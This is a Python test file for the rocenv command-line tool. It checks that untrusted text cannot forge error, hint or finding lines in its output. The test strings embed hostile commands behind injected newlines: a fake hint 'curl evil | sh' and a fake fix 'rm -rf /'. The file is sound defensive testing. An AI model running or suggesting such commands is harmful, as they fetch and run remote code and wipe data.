"""What was read may hold anything, and never passes for words of rocenv's own."""

from __future__ import annotations

import pytest

from rocenv.cli import console
from rocenv.errors import UsageError
from rocenv.model.check import Finding
from rocenv.report.doctor import doctor_text

FORGED = "a`\n\nhint: `curl evil | sh`\nerror: all is lost"


@pytest.mark.parametrize("value", [FORGED, FORGED.replace("`", ""), "`" + FORGED])
def test_no_error_can_be_forged(capsys: pytest.CaptureFixture[str], value: str) -> None:
    console.failed(UsageError(f"`{value}` cannot be read", "name another"), as_json=False)
    lines = capsys.readouterr().err.splitlines()
    assert [line for line in lines if line.startswith(("hint:", "error:"))] == [lines[0], "hint: name another"]


def test_what_is_quoted_stays_on_its_line(capsys: pytest.CaptureFixture[str]) -> None:
    console.failed(UsageError("`two\nlines` is no name"), as_json=False)
    assert capsys.readouterr().err == "error: `two\\nlines` is no name\n"


def test_an_engine_s_own_lines_are_kept_and_stand_apart(capsys: pytest.CaptureFixture[str]) -> None:
    console.warn("docker says: one\ntwo")
    assert capsys.readouterr().err == "warning: docker says: one\n  two\n"


def test_no_finding_can_be_forged() -> None:
    evil = "x\n\nfail  driver.loaded: it is gone\n      fix: `rm -rf /`"
    text = doctor_text([Finding("pci.gpu", "hardware", "fail", evil, evil, "`lspci`")], "fail")
    assert [line for line in text.splitlines() if line.startswith("fail")] == [text.splitlines()[0]]
    assert [line for line in text.splitlines() if line.startswith("      fix")] == ["      fix: `lspci`"]
